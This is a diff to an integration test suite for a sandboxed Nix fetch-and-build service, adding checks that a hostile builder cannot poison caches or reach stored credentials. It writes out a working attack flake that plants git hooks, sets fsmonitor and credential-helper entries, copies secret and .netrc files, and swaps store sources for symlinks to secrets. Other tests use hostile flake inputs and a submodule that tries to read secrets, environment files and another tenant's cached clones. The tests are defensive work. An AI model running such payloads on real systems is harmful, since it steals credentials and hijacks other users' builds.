@@ -16,11 +16,12 @@ import { createServer as createHttpServer, type IncomingMessage, type ServerResp
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { DatabaseSync } from 'node:sqlite';
 import { build as bundle } from 'esbuild';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { enterRootfs } from '../../image/enter.ts';
 import { ensureRootfs } from '../../image/rootfs.ts';
-import { type BuildOrder, progressPrefix } from '../api/order.ts';
+import { type BuildOrder, progressPrefix, storeParts } from '../api/order.ts';
 import { BuildResult, FetchResult } from '../api/result.ts';
 
 /**
@@ -395,6 +396,125 @@ describe('a private flake', () => {
   });
 });
 
+describe('what a builder leaves behind does not reach the next fetch and its credentials', () => {
+  const canary = 'canary-of-the-test';
+  let server: Awaited<ReturnType<typeof servePrivately>>;
+  beforeAll(async () => {
+    server = await servePrivately(join(home, 'git'));
+    git.commit('victim', { 'flake.nix': packagesFlake, 'bin/busybox': busybox });
+  });
+  afterAll(() => server.close());
+
+  const secretOf = (pod: ReturnType<typeof aPod>) => {
+    pod.secret('netrc', `machine 127.0.0.1 login user password ${server.password}\n# ${canary}`);
+    pod.secret('flake.nix', canary);
+  };
+  const withCanary = (...places: string[]) =>
+    spawnSync('grep', ['-rlE', `${canary}|${server.password}`, ...places]).stdout.toString();
+
+  test.each(['git+http', 'tarball+http'])('%s', async (scheme) => {
+    const path = scheme === 'git+http' ? 'victim' : 'archive/victim.tar.gz';
+    const flakeUrl = `${scheme}://127.0.0.1:${server.port}/${path}`;
+    const victim = aPod();
+    secretOf(victim);
+    expect((await victim.fetch({ flakeUrl, fetchCache: 'ofsecret' })).result).toMatchObject({ ok: true });
+
+    git.commit('hostile', { 'flake.nix': hostileFlake, 'bin/busybox': busybox });
+    const attacker = aPod(victim);
+    await attacker.fetch({ flakeUrl: git.url('hostile') });
+    const attack = await attacker.build();
+    // A program of its own runs the attack: everything it could reach was changed.
+    expect(attack.output).toMatch(/hostile> changed [1-9][0-9]* sources/);
+
+    git.commit('victim', { readme: String(Math.random()) });
+    for (const sought of [flakeUrl, flakeUrl]) {
+      const { result, output } = await victim.fetch({ flakeUrl: sought, fetchCache: 'ofsecret' });
+      expect(result).toMatchObject({ ok: true });
+      expect(output + JSON.stringify(result)).not.toContain(canary);
+    }
+    expect(existsSync(join(victim.store, 'nix/hook-ran'))).toBe(false);
+    const poisoned = spawnSync('grep', ['-rl', '/nix/hook', join(victim.store, storeParts.fetchCache)]);
+    expect(poisoned.stdout.toString()).toBe('');
+    const readable = ['nix', storeParts.buildCache].map((part) => join(victim.store, part));
+    expect(withCanary(...readable, join(victim.directory, 'handover'))).toBe('');
+  });
+
+  test.each(['path:/srv/secret', 'path:/tmp', 'file:///proc/self/environ'])(
+    'and no builder that runs at the same time sees the input %s',
+    async (url) => {
+      const pod = aPod();
+      secretOf(pod);
+      await pod.fetch({ flakeUrl: git.url('packages') });
+      const before = pathsEver(pod.store);
+      git.commit('thief', { 'flake.nix': `{ inputs.s = { url = "${url}"; flake = false; }; outputs = _: { }; }` });
+      expect((await pod.fetch({ flakeUrl: git.url('thief') })).result).toMatchObject({ ok: false });
+      expect(pathsEver(pod.store)).toBe(before);
+    },
+  );
+
+  test('nor does a flake see a clone that another Secret opened', async () => {
+    const pod = aPod();
+    secretOf(pod);
+    const flakeUrl = `git+http://127.0.0.1:${server.port}/victim`;
+    const fetched = await pod.fetch({ flakeUrl, fetchCache: 'ofsecret' });
+    const lockedUrl = fetched.result.ok ? fetched.result.lockedUrl : '';
+    const other = aPod(pod);
+    for (const url of [flakeUrl, lockedUrl])
+      expect((await other.fetch({ flakeUrl: url, fetchCache: 'public' })).result).toMatchObject({
+        reason: 'FetchFailed',
+      });
+    // Nor by a path: a submodule may name any clone of this machine.
+    const [clone = ''] = readdirSync(join(pod.store, storeParts.fetchCache, 'ofsecret/nix/gitv3'));
+    git.commit('borrower', {
+      '.gitmodules': `[submodule "s"]\n\tpath = s\n\turl = file:///mnt/ofsecret/nix/gitv3/${clone}\n`,
+      'flake.nix': packagesFlake,
+    });
+    const rev = lockedUrl.split('rev=')[1] ?? '';
+    git.run('borrower', 'update-index', '--add', '--cacheinfo', `160000,${rev},s`);
+    git.run('borrower', 'commit', '--quiet', '--message', 'borrow');
+    const borrowed = await other.fetch({ flakeUrl: `${git.url('borrower')}?submodules=1`, fetchCache: 'public' });
+    expect(borrowed.result).toMatchObject({ ok: false });
+  });
+});
+
+/** How many paths were ever put into the store, whether they are still there or not. */
+function pathsEver(store: string): number {
+  using database = new DatabaseSync(join(store, 'nix/var/nix/db/db.sqlite'), { readOnly: true });
+  return Number(database.prepare("SELECT seq FROM sqlite_sequence WHERE name = 'ValidPaths'").get()?.['seq']);
+}
+
+/**
+ * Its builder leaves hooks and configurations in every clone it can reach, and puts links to the Secret in the place of every
+ * flake in the store: once as `flake.nix`, once as the whole directory.
+ */
+const hostileFlake = `{
+  outputs = { self }: {
+    packages.x86_64-linux.default = derivation {
+      name = "hostile"; system = "x86_64-linux"; builder = "\${./bin}/busybox"; PATH = "\${./bin}";
+      args = [ "sh" "-c" ''
+        busybox printf '#!/bin/sh\\ntouch /nix/hook-ran\\ncat /srv/secret/* /tmp/*/.netrc > /nix/hook-ran\\n' > /nix/hook
+        busybox chmod +x /nix/hook
+        for clone in $(busybox find /mnt /nix -name HEAD 2>/dev/null); do
+          at=$(busybox dirname $clone)
+          busybox mkdir -p $at/hooks
+          for hook in reference-transaction post-checkout post-merge pre-auto-gc; do busybox cp /nix/hook $at/hooks/$hook; done
+          busybox printf '[core]\\n\\tfsmonitor = /nix/hook\\n[credential]\\n\\thelper = !/nix/hook\\n' >> $at/config
+        done
+        n=0
+        for source in /nix/store/*-source; do
+          case $PATH in $source*) continue;; esac
+          busybox chmod -R u+w $source /nix/store
+          busybox rm -rf $source
+          if [ $n = 0 ]; then busybox ln -s /srv/secret $source; else busybox mkdir $source; busybox ln -s /srv/secret/netrc $source/flake.nix; fi
+          n=$((n + 1))
+        done
+        echo changed $n sources
+        echo > $out
+      '' ];
+    };
+  };
+}`;
+
 describe('a fetch that cannot ask the host', () => {
   test.each(['', '?ref=main'])('does not take the branch of yesterday: %s', async (query) => {
     const pod = aPod();
@@ -602,7 +722,7 @@ function aPod(given: { readonly store?: string } = {}) {
   const directory = join(home, `pod-${++pods}`);
   const { store = join(directory, 'store') } = given;
   for (const path of ['handover', 'secret']) mkdirSync(join(directory, path), { recursive: true });
-  for (const path of ['nix/store', 'nix/var/nix/gcroots/enbi', 'cache'])
+  for (const path of ['nix/store', 'nix/var/nix/gcroots/enbi', 'cache', 'fetch-cache'])
     mkdirSync(join(store, path), { recursive: true });
   copyFileSync(join(home, 'enbi.mjs'), join(directory, 'enbi.mjs'));
   execFileSync('chown', ['-R', '1000:1000', directory]);
@@ -633,6 +753,7 @@ function anOrder({ nix, ...order }: Changes): BuildOrder {
     system: 'x86_64-linux',
     isolation: 'Unprivileged',
     root: 'root-1',
+    fetchCache: 'public',
     ...order,
     nix: {
       substituters: [],
@@ -652,7 +773,8 @@ async function runInPod(
   { directory, store }: { directory: string; store: string },
   { stopAfterLine, nixSize }: Circumstances,
 ): Promise<Ran<unknown>> {
-  const binds = { '/nix': join(store, 'nix'), '/srv': directory, '/mnt': join(store, 'cache') };
+  const cache = join(store, program === 'fetch' ? storeParts.fetchCache : storeParts.buildCache);
+  const binds = { '/nix': join(store, 'nix'), '/srv': directory, '/mnt': cache };
   if (nixSize !== undefined) shrink(join(store, 'nix'), nixSize);
   const [command, ...args] = enterRootfs({ rootfs, binds }, ['/usr/bin/node', '/srv/enbi.mjs', program]);
   const child = spawn(command, args, { stdio: ['ignore', 'pipe', 'pipe'] });
@@ -699,7 +821,7 @@ function stopNode(entered: ChildProcess): void {
 
 async function bundlePrograms(outfile: string): Promise<void> {
   const places =
-    "{ order: '/srv/order.json', handover: '/srv/handover', cache: '/mnt', secret: '/srv/secret', nix: '/nix', temporary: '/tmp', terminationLog: '/srv/termination-log', print: (line) => process.stdout.write(line + '\\n') }";
+    "{ order: '/srv/order.json', handover: '/srv/handover', fetchCache: '/mnt', buildCache: '/mnt', secret: '/srv/secret', nix: '/nix', temporary: '/tmp', terminationLog: '/srv/termination-log', print: (line) => process.stdout.write(line + '\\n') }";
   const contents = `
     import { runFetch } from './src/main/fetch.ts';
     import { runBuild } from './src/main/build.ts';
